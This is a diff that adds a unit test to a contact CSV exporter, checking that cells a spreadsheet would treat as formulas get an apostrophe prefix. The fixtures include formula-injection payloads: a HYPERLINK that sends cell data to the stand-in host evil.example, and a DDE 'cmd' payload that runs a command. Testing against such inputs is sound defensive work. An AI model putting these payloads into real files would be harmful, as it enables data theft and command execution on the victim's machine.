@@ -15,4 +15,16 @@ describe('contact CSV export (management.md section 9: semicolon separator; name
       '"Silva; Ana ""Aninha""";1;',
     );
   });
+  test('cells a spreadsheet would run as a formula (= + - @ tab CR first) are prefixed with an apostrophe', () => {
+    const csv = contactsCsv([
+      { name: '=HYPERLINK("http://evil.example/?"&A1,"Click")', number: '1', email: '' },
+      { name: "+cmd|' /C calc'!A0", number: '-2', email: '@SUM(1+1)' },
+      { name: '\tTab', number: '\r3', email: 'ana@x.dev' },
+      { name: 'Ana = Bob', number: '5511', email: '' },
+    ]).split('\r\n');
+    expect(csv[1]).toBe('"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")";1;');
+    expect(csv[2]).toBe("'+cmd|' /C calc'!A0;'-2;'@SUM(1+1)");
+    expect(csv[3]).toBe('\'\tTab;"\'\r3";ana@x.dev');
+    expect(csv[4]).toBe('Ana = Bob;5511;');
+  });
 });
